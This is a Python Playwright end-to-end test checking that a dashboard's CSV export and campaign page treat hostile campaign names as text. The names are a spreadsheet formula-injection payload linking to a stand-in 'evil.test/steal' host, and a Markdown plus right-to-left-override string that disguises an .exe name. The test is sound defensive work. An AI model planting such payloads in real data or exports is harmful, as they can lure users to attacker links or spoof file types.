"""In headless Chromium, names are data: a campaign named like a formula
downloads as text, and a name made of Markdown, links, line breaks and
invisible characters shows as the letters it is."""

from __future__ import annotations

import csv
import io

from tests import pg
from tests.dashboard.conftest import PASSWORD
from tests.dashboard.test_browser import (  # noqa: F401  (fixtures)
    app_url,
    e2e_db,
    page,
    pytestmark,
    shot,
)

FORMULA = '=HYPERLINK("https://evil.test/steal","Open report")'
MARKDOWN = (
    "Sale https://evil.test/a www.evil.test x@evil.test\n# Takeover\n- item"
    " :red[alarm] \u202egnp.exe\u200b"
)


def _busiest_campaigns(db, count: int) -> list[int]:
    """The campaigns with the most SPLIT revenue in the leaderboard's default
    range (the last 30 days of sales)."""
    return [
        campaign_id
        for (campaign_id,) in pg.query(
            db,
            "select campaign_id from marts.agg_campaign_daily"
            " where credit_mode = 'SPLIT' and sale_date > (select max(sale_date)"
            " from marts.agg_campaign_daily) - 30"
            " group by campaign_id order by sum(revenue) desc limit %s",
            (count,),
        )
    ]


def test_hostile_campaign_names_are_text_in_the_page_and_in_the_export(
    page,  # noqa: F811
    app_url,  # noqa: F811
    e2e_db,  # noqa: F811
    run_dbt,
):
    from playwright.sync_api import expect

    formula_id, markdown_id = _busiest_campaigns(e2e_db, 2)
    for campaign_id, name in ((formula_id, FORMULA), (markdown_id, MARKDOWN)):
        pg.execute(
            e2e_db,
            "update marketing.ad_campaigns set name = %s where id = %s",
            (name, campaign_id),
        )
    run_dbt(e2e_db, "build", "--select", "dim_campaigns")

    page.goto(app_url)
    page.get_by_label("User name").fill("viewer")
    page.get_by_role("textbox", name="Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("heading", name="Leaderboard")).to_be_visible()
    with page.expect_download() as download:
        page.get_by_role("button", name="Download CSV").click()
    rows = list(csv.DictReader(io.StringIO(download.value.path().read_text())))
    names = {int(row["campaign_id"]): row["name"] for row in rows}
    # a spreadsheet reads the cell as text, never as a formula
    assert names[formula_id] == "'" + FORMULA
    assert not any(
        value.startswith(("=", "+", "@", "\t", "\r"))
        for row in rows
        for value in row.values()
    )

    page.get_by_role("link", name="Campaign", exact=True).click()
    expect(page.get_by_role("heading", name="Campaign", exact=True)).to_be_visible()
    picker = page.get_by_test_id("stSelectbox").first
    picker.click()
    page.get_by_role("option", name=f"{markdown_id} — Sale").click()
    subheader = page.get_by_test_id("stHeading").filter(has_text="Takeover")
    expect(subheader).to_be_visible()
    shot(page, "21_hostile_name")
    # one heading, its text the name's letters: no link, no second heading,
    # no list, no colour, and the invisible characters made visible
    assert subheader.locator("a[href^='http'], a[href^='mailto']").count() == 0
    assert subheader.locator("h1, h2, ul, li, span[style]").count() == 0
    assert page.locator("a[href*='evil.test']").count() == 0
    text = subheader.inner_text()
    assert "https://evil.test/a www.evil.test x@evil.test # Takeover - item" in text
    assert ":red[alarm]" in text
    assert "\u202e" not in text and "\u200b" not in text
    assert "\ufffdgnp.exe\ufffd" in text
